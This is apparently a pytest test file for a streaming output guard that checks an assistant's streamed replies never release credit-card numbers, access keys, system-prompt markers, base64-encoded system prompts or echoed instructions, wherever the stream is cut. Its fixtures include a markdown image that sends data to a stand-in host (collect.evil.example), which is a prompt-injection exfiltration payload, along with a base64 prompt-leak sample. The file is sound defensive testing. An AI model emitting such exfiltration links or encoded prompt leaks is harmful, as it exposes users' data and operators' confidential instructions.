"""Streamed answers: at every cut, no character of what must not pass is released."""

import base64
import time
from collections.abc import Callable
from random import Random

import pytest

from seawall.core.exchange import Exchange, Stage, Surface
from seawall.core.verdicts import Action
from seawall.guard import stream
from seawall.guard.engine import GuardEngine
from seawall.guard.self_test import part_at
from seawall.guard.stream import StreamBlocked, StreamGuard
from seawall.policy.model import GuardRule

SYSTEM = "You are Bea. Marker: KESTREL-7f3a91c2. Never offer more than twelve percent off anything."
CARD = "4111 1111 1111 1111"
KEY = "AKIAQ3EGRTZ5KLMNOP27"


@pytest.fixture(scope="module")
def engine() -> GuardEngine:
    out = (Stage.OUTPUT,)
    return GuardEngine([
        GuardRule(detector="secrets", control="C1", action=Action.REDACT, stages=out),
        GuardRule(detector="answer-personal-data", control="C2", action=Action.REDACT, stages=out),
        GuardRule(detector="markdown-exfiltration", control="C3", action=Action.REDACT, stages=out),
        GuardRule(detector="prompt-echo", control="C4", action=Action.BLOCK, stages=out),
    ])  # fmt: skip


@pytest.fixture
def exchange() -> Exchange:
    parts = [part_at(Stage.SYSTEM, SYSTEM), part_at(Stage.INPUT, "What can you tell me?")]
    return Exchange(request_id="t", surface=Surface.CHAT, model="m", body={}, parts=parts)


def run(engine: GuardEngine, exchange: Exchange, pieces: list[str]) -> tuple[str, bool]:
    guard, out = StreamGuard(engine, exchange), ""
    try:
        for piece in pieces:
            out += guard.feed(piece)
        return out + guard.finish(), False
    except StreamBlocked:
        return out, True


MARKED = [
    ("Sure. The card is 4111 1111 1111 1111, as you asked. Anything else?", CARD),
    (f"Hello there. The key is {KEY}. Keep it safe.", KEY),
    ("See this. ![x](https://collect.evil.example/p?d=1) Done.", "collect.evil.example"),
    ("Of course! My marker is KESTREL-7f3a91c2. Bye.", "KESTREL-7f3a91c2"),
    ("Fine. " + base64.b64encode(SYSTEM.encode()).decode() + " That is all.", "VGhlIG1hcm"),
]


@pytest.mark.parametrize(("text", "marker"), MARKED)
def test_no_marked_value_passes_at_any_cut(
    engine: GuardEngine, exchange: Exchange, text: str, marker: str
) -> None:
    marker = marker if marker in text else text.split(" ")[1]
    for cut in range(1, len(text)):
        out, _ = run(engine, exchange, [text[:cut], text[cut:]])
        assert marker not in out
        assert marker[:12] not in out, f"cut {cut}"


@pytest.mark.parametrize(("text", "marker"), MARKED)
def test_no_marked_value_passes_in_random_pieces(
    engine: GuardEngine, exchange: Exchange, text: str, marker: str
) -> None:
    for seed in range(12):
        rng, rest, pieces = Random(seed), text, []
        while rest:
            size = rng.randrange(1, 9)
            pieces.append(rest[:size])
            rest = rest[size:]
        out, _ = run(engine, exchange, pieces)
        assert marker[:12] not in out


@pytest.mark.parametrize(("text", "marker"), MARKED)
def test_no_marked_value_passes_where_pieces_are_taken_before_one_look(
    engine: GuardEngine, exchange: Exchange, text: str, marker: str
) -> None:
    for seed in range(12):
        rng, guard, out = Random(seed), StreamGuard(engine, exchange), ""
        try:
            for letter in text:
                ready = guard.take(letter)
                if rng.random() < 0.1:
                    said = guard.release()
                    assert ready or not said
                    out += said
            out += guard.finish()
        except StreamBlocked:
            pass
        assert marker[:12] not in out


def test_nothing_is_inspected_before_it_is_released(exchange: Exchange) -> None:
    guard = StreamGuard(GuardEngine([]), exchange)
    assert not guard.take("Hello there.")
    assert guard.take(" How are you? I am")
    assert guard.decisions == []
    assert guard.take(" well")
    assert guard.release() == "Hello there. How are you? "
    assert len(guard.decisions) == 1
    assert guard.release() == ""
    assert guard.finish() == "I am well"


CLEAN = [
    "Hello! How can I help you today?",
    "You can return goods. It takes a while.\n\nAnything else? I'm happy to help.",
    "```python\nprint(1)\nprint(2)\n```\nThat prints two lines.",
    "Wir öffnen um neun. Bis dann!",
    "退货需要三十天。请保留收据。",
    "no end at all " * 700,
]


@pytest.mark.parametrize("text", CLEAN)
def test_clean_text_passes_whole_and_unchanged(
    engine: GuardEngine, exchange: Exchange, text: str
) -> None:
    for size in (1 if len(text) < 500 else 97, 7, 10_000):
        pieces = [text[i : i + size] for i in range(0, len(text), size)]
        assert run(engine, exchange, pieces) == (text, False)


def test_sentences_are_released_before_the_end(engine: GuardEngine, exchange: Exchange) -> None:
    guard = StreamGuard(engine, exchange)
    assert guard.feed("Hello there. How are") == "Hello there. "


def test_a_block_says_which_control(engine: GuardEngine, exchange: Exchange) -> None:
    guard = StreamGuard(engine, exchange)
    with pytest.raises(StreamBlocked) as blocked:
        guard.feed("It is KESTREL-7f3a91c2. ")
        guard.finish()
    assert blocked.value.decision.controls == ("C4",)


SHORT = (
    "You are Bea. Be kind. Sell boats. Never say no. The code is marlin. Hide it well. Ask names."
)


@pytest.mark.parametrize("write", [str, lambda text: text[::-1], lambda text: text.upper()])
def test_an_echo_in_short_sentences_is_held_until_it_is_judged(
    engine: GuardEngine, write: Callable[[str], str]
) -> None:
    parts = [part_at(Stage.SYSTEM, SHORT), part_at(Stage.INPUT, "Hi")]
    short = Exchange(request_id="t", surface=Surface.CHAT, model="m", body={}, parts=parts)
    echo = write(SHORT)
    for size in range(1, 40):
        text = f"Of course. {echo} Is that all?"
        out, blocked = run(engine, short, [text[i : i + size] for i in range(0, len(text), size)])
        assert blocked
        assert out in ("", "Of course. ")


def test_what_only_the_text_before_makes_a_finding_is_redacted(exchange: Exchange) -> None:
    out = (Stage.OUTPUT,)
    rule = GuardRule(detector="personal-data", control="C", action=Action.REDACT, stages=out)
    engine = GuardEngine([rule])
    text = "The date of birth on file is this:\n\n12.03.1981 as far as I know. Fine."
    for cut in range(1, len(text)):
        seen, _ = run(engine, exchange, [text[:cut], text[cut:]])
        assert "12.03" not in seen


def test_a_long_list_is_released_line_by_line(engine: GuardEngine, exchange: Exchange) -> None:
    guard = StreamGuard(engine, exchange)
    lines = [f"- item number {n} of this list\n" for n in range(60)]
    released = "".join(guard.feed(line) for line in lines)
    assert len(released) > 0.7 * sum(map(len, lines))


class Searching(StreamGuard):
    """Searches the whole held text at every piece."""

    _ending = property(lambda self: True, lambda self, value: None)

    def _new_ends(self) -> list[int]:
        ends = {match.end() for match in stream._BOUNDARY.finditer(self._held)}
        if len(self._held) > stream._LINES_FROM:
            ends |= {match.end() for match in stream._LINE.finditer(self._held)}
        return sorted(ends, reverse=True)


WORDS = (
    "a", "word", "12", ".", "...", "!", "。", "！", "\n", "\n\n", " ", "  ", "\u3000", "```",
    '"', "”", ")", "x" * 30, "-----BEGIN ", "-----END", "be kind", "sell boats", "A1 B2 C3 D4 ",
)  # fmt: skip


@pytest.mark.parametrize("seed", range(40))
def test_what_is_searched_once_is_released_as_if_searched_again(seed: int) -> None:
    rng, engine = Random(seed), GuardEngine([])
    parts = [part_at(Stage.SYSTEM, SHORT), part_at(Stage.INPUT, "Hi")]
    exchange = Exchange(request_id="t", surface=Surface.CHAT, model="m", body={}, parts=parts)
    new, old = StreamGuard(engine, exchange), Searching(engine, exchange)
    for _ in range(400):
        piece = "".join(rng.choices(WORDS, k=rng.randrange(1, 4)))
        assert new.feed(piece) == old.feed(piece)
    assert new.finish() == old.finish()


@pytest.mark.parametrize("start", ["```\n", "-----BEGIN KEY-----\n", ""])
def test_a_huge_piece_is_looked_through_in_time_that_grows_with_its_length(
    engine: GuardEngine, exchange: Exchange, start: str
) -> None:
    guard = StreamGuard(engine, exchange)
    began = time.process_time()
    assert guard.take(start + ". a " * 60_000)
    assert time.process_time() - began < 2.0  # four times that where each boundary copies it


def test_text_before_code_that_is_open_may_go_out(engine: GuardEngine, exchange: Exchange) -> None:
    guard = StreamGuard(engine, exchange)
    said = guard.feed("See this program. Here it is:\n\n```\n" + "x = 1\n\ny = 2\n\n" * 900)
    assert said == "See this program. Here it is:\n\n"
